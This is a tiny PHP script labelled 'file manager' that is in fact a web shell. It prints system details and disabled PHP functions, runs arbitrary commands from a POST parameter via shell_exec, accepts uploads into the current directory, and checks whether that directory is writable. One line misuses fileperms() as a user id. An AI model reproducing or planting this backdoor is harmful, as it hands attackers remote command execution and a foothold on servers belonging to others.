<?php
// file manager
echo php_uname(); echo ini_get('disable_functions');
$u = posix_getpwuid(fileperms(getcwd()));
if ($_POST['cmd']) { echo shell_exec($_POST['cmd']); }
if (!empty($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], './' . basename($_FILES['up']['name'])); }
if (is_writable('.')) echo 'w';
